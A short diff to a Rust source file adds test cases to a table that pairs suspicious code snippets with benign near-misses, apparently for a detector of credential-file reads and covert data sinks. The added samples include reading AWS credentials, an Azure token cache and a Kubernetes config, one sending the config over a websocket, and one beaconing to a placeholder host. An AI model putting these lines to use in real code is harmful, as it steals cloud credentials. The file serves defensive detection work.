@@ -1615,6 +1615,30 @@ const WIDENED: &[(&str, &str, &str, &str)] = &[
     (
         "credential-file",
         "scripts/x.sh",
+        "[ -f ~/.aws/credentials ] && cat ~/.aws/credentials",
+        "[ -f ~/.aws/credentials ] || { echo \"run aws configure first\"; exit 1; }",
+    ),
+    (
+        "credential-file",
+        "scripts/x.ps1",
+        "Get-Content (Join-Path $env:USERPROFILE '.azure\\msal_token_cache.json') -Raw",
+        "Get-Content (Join-Path $env:USERPROFILE '.azure\\config') -Raw",
+    ),
+    (
+        "covert-sink",
+        "cmd/x.go",
+        "cfg, _ := os.ReadFile(filepath.Join(home, \".kube\", \"config\"))\nconn.WriteMessage(websocket.BinaryMessage, cfg)",
+        "conn.WriteMessage(websocket.TextMessage, out)",
+    ),
+    (
+        "covert-sink",
+        "scripts/x.ps1",
+        "$c = Get-Content \"$env:USERPROFILE\\.azure\\msal_token_cache.json\"\nInvoke-WebRequest -Uri \"https://p.example.net/p.gif?d=$part\"",
+        "Invoke-WebRequest -Uri \"https://status.example.net/feed/?region=$q\"",
+    ),
+    (
+        "credential-file",
+        "scripts/x.sh",
         "cat ~/.pgpass",
         "cat ~/.psqlrc",
     ),
